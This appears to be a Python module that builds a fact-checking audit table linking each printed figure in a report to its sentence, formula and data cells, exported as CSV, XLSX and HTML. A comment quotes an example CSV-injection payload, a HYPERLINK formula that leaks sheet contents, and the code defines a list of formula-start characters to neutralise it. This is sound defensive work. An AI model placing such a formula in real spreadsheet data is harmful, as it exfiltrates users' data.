"""Document model → the audit table: every printed figure, where it is, its formula and data cells.

Fact-checkers ask of every number "where does this come from?". The template environment
recorded each printed figure with its formula and input cells (Document.printed) and each
block knows which of them it holds (Source.figures); this module only joins the two with
the chapter, section and sentence a reader sees, and writes the result as CSV and XLSX.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, fields

from ..model.nodes import Document, Heading, Note, Table
from ..model.text import plain_text, table_texts, walk_blocks

# A sentence ends at a Chinese full stop, exclamation or question mark or semicolon, or at
# . ! ? ; followed by a space (so "29.9%" and "e.g.1" are not split).
_SENTENCE_END = re.compile(r"[。！？；]|[.!?;](?=\s|$)")

WORDS = {  # the preview's appendix page; CSV/XLSX headers stay English (stable for scripts)
    "zh": {"title": "附录 数字来源核对表", "where": "位置", "printed": "数字", "formula": "公式",
           "inputs": "数据来源", "intro": "报告中每个数字的出处：所在章节和句子、计算公式及其数据单元格。"},
    "en": {"title": "Audit trail: where every figure comes from", "where": "Where",
           "printed": "Figure", "formula": "Formula", "inputs": "Data cells",
           "intro": "Every number printed in the report: its chapter and sentence, its formula "
                    "and the data cells it is computed from."},
}


@dataclass(frozen=True)
class AuditRow:
    """One input of one printed figure (a figure without data inputs has one empty row)."""

    figure: int  # 1-based number of the printed figure, in reading order
    chapter: str
    section: str
    template: str  # "templates/overview.md.j2:15"
    sentence: str
    printed: str
    formula: str
    indicator: str = ""
    year: str = ""
    value: str = ""
    cell: str = ""
    source: str = ""
    note: str = ""  # written beside this value in the data ("back-derived")
    indicator_notes: str = ""  # the indicator's own notes (how its figures are derived)


COLUMNS = tuple(f.name for f in fields(AuditRow))


@dataclass(frozen=True)
class Place:
    chapter: str
    section: str
    sentence: str


# ------------------------------------------------------------------ sentences


def sentences(text: str) -> list[tuple[int, int]]:
    """(start, end) spans of the sentences of `text`, each including its final mark."""
    spans, start = [], 0
    for match in _SENTENCE_END.finditer(text):
        spans.append((start, match.end()))
        start = match.end()
    if start < len(text):
        spans.append((start, len(text)))
    return spans


def sentence_at(text: str, position: int) -> str:
    for start, end in sentences(text):
        if start <= position < end:
            return text[start:end].strip()
    return text.strip()


def _block_text(block) -> str:
    """What a reader sees of a block: its text, or a table as one line per row."""
    if isinstance(block, Table):
        # a row is the "sentence" of a table: label, unit and the figures of that row
        return "\n".join(" | ".join(row) for row in table_texts(block)) + "\n"
    return plain_text(getattr(block, "children", ()))


def _table_row_at(text: str, position: int) -> str:
    start = text.rfind("\n", 0, position) + 1
    end = text.find("\n", position)
    return text[start:end if end >= 0 else len(text)].strip()


# ------------------------------------------------------------------ places


def _with_notes(blocks):
    """Every block, and the blocks inside footnotes (their figures are theirs)."""
    for block in walk_blocks(blocks):
        yield block
        for node in getattr(block, "children", ()) or ():
            if isinstance(node, Note):
                yield from _with_notes(node.blocks)


def figure_places(document: Document) -> dict[int, Place]:
    """Index into document.printed → the chapter, section and sentence it appears in."""
    places: dict[int, Place] = {}
    for chapter in document.chapters:
        title, section = chapter.id, ""
        for block in _with_notes(chapter.blocks):
            if isinstance(block, Heading):
                text = plain_text(block.children).strip()
                if block.level == 1 and title == chapter.id:
                    title = text
                elif block.level > 1:
                    section = text
            source = getattr(block, "source", None)
            if source is None or not source.figures:
                continue
            text = _block_text(block)
            cursor = 0  # figures appear in the block in order: search on from the last one
            for index in source.figures:
                if index >= len(document.printed) or index in places:
                    continue
                printed = document.printed[index].text
                found = text.find(printed, cursor) if printed else -1
                if found < 0:
                    found = text.find(printed) if printed else -1
                if found < 0:
                    sentence = text.strip()
                elif isinstance(block, Table):
                    sentence = _table_row_at(text, found)
                else:
                    sentence = sentence_at(text, found)
                if found >= 0:
                    cursor = found + len(printed)
                places[index] = Place(title, section, sentence)
    return places


def audit_rows(document: Document, notes: dict | None = None) -> list[AuditRow]:
    """Every printed figure of `document` with each of its inputs; `notes` maps
    (indicator, year) to (the value's note, the indicator's notes), see value_notes."""
    notes = notes or {}
    places = figure_places(document)
    rows = []
    # a tuple of cells shared by several figures (every rank of a family's ranked table:
    # family/compare.py) is listed at its first figure; the others name that figure, so the
    # audit of N ranks among N members has N + N rows, not N × N
    listed: dict[int, int] = {}
    order = sorted(range(len(document.printed)), key=lambda i: (i not in places, i))
    for number, index in enumerate(order, start=1):
        printed = document.printed[index]
        place = places.get(index, Place("", "", ""))
        where = f"templates/{printed.template}:{printed.line}" if printed.template else ""
        head = (number, place.chapter, place.section, where, place.sentence, printed.text,
                printed.formula)
        if not printed.inputs:
            rows.append(AuditRow(*head))
        if len(printed.inputs) > 1 and id(printed.inputs) in listed:
            rows.append(AuditRow(*head, cell=f"the same {len(printed.inputs)} data cells as "
                                             f"figure {listed[id(printed.inputs)]}"))
            continue
        listed.setdefault(id(printed.inputs), number)
        for data in printed.inputs:
            note, indicator_notes = notes.get((data.indicator, int(data.year)), ("", ""))
            rows.append(AuditRow(*head, data.indicator, str(data.year), data.value, data.location,
                                 data.source, note, indicator_notes))
    return rows


def value_notes(dataset) -> dict:
    """(indicator, year) → (the note written next to that value in the data, the
    indicator's own notes)."""
    if dataset is None:
        return {}
    return {(ind.id, year): (value.note, ind.notes)
            for ind in dataset.indicators.values() for year, value in ind.values.items()
            if value.note or ind.notes}


# ------------------------------------------------------------------ files


def to_csv(rows: list[AuditRow]) -> bytes:
    """UTF-8 with a byte-order mark, so Excel shows Chinese text correctly when opened."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(COLUMNS)
    writer.writerows(tuple(map(csv_cell, _values(row))) for row in rows)
    return buffer.getvalue().encode("utf-8-sig")


# A spreadsheet opening the CSV runs a cell that starts with one of these as a formula (OWASP
# "CSV Injection"): `=HYPERLINK("http://…?leak="&A1)` in a data note would leak the sheet.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# …but a plain number stays a number: "-3.2", "+5", "-1,234.5", "-0.4%", "1e-3" are values a
# spreadsheet parses as numbers, never formulas, and a fact-checker sorts and sums them
_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def csv_cell(value):
    """`value`, or a text that could run as a formula prefixed with a single quote."""
    if isinstance(value, str) and value.startswith(_FORMULA_START) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _values(row: AuditRow) -> tuple:
    # dataclasses.astuple deep-copies every field: a third of the audit's time on big reports
    return tuple(getattr(row, name) for name in COLUMNS)


def to_xlsx(rows: list[AuditRow], source_date_epoch: int) -> bytes:
    """One sheet with a frozen, filterable header; identical rows give identical bytes.

    Every data text stays text (no formulas, whatever it starts with); XML 1.0's forbidden
    control characters become U+FFFD (records/xlsx.py)."""
    from .xlsx import write_xlsx

    return write_xlsx("audit", COLUMNS, [_values(row) for row in rows],
                      [XLSX_WIDTHS.get(name, 12) for name in COLUMNS],
                      COLUMNS.index("sentence"), source_date_epoch)


XLSX_WIDTHS = {"sentence": 60, "formula": 40, "cell": 34, "chapter": 16, "section": 20,
               "template": 26, "source": 24, "note": 16, "indicator_notes": 40}


def audit_files(document: Document, notes: dict, lang: str, source_date_epoch: int) -> dict:
    """{"audit-csv": bytes, "audit-xlsx": bytes} for the build to stage next to the report."""
    rows = audit_rows(document, notes)
    return {"audit-csv": to_csv(rows), "audit-xlsx": to_xlsx(rows, source_date_epoch)}


# ------------------------------------------------------------------ preview page


def to_html(rows: list[AuditRow], lang: str) -> str:
    """The audit table as an appendix section for the preview page (one row per figure)."""
    from html import escape

    words = WORDS["zh" if lang.lower().startswith("zh") else "en"]
    grouped: dict[int, list[AuditRow]] = {}
    for row in rows:
        grouped.setdefault(row.figure, []).append(row)
    body = []
    for number, group in grouped.items():
        first = group[0]
        where = " › ".join(escape(p) for p in (first.chapter, first.section) if p)
        inputs = "<br>".join(
            f"<code>{escape(r.indicator)}[{escape(r.year)}]</code> = {escape(r.value)} — "
            f"{escape(r.cell)}" + (f" — {escape(r.source)}" if r.source else "")
            + (f" ({escape(r.note)})" if r.note else "")
            + (f'<br><small>{escape(r.indicator_notes)}</small>' if r.indicator_notes else "")
            for r in group if r.indicator)
        body.append(
            f'<tr id="audit-{number}"><td class="num">{number}</td>'
            f'<td>{where}<br><small>{escape(first.sentence)}</small>'
            f'<br><small class="template">{escape(first.template)}</small></td>'
            f"<td><strong>{escape(first.printed)}</strong></td>"
            f"<td><code>{escape(first.formula)}</code></td><td>{inputs}</td></tr>")
    return (f'<section class="chapter appendix audit" id="audit">\n<h1>{escape(words["title"])}</h1>\n'
            f'<p>{escape(words["intro"])}</p>\n<table class="audit-table">\n<thead><tr><th>#</th>'
            f'<th>{words["where"]}</th><th>{words["printed"]}</th><th>{words["formula"]}</th>'
            f'<th>{words["inputs"]}</th></tr></thead>\n<tbody>\n' + "\n".join(body)
            + "\n</tbody></table>\n</section>")
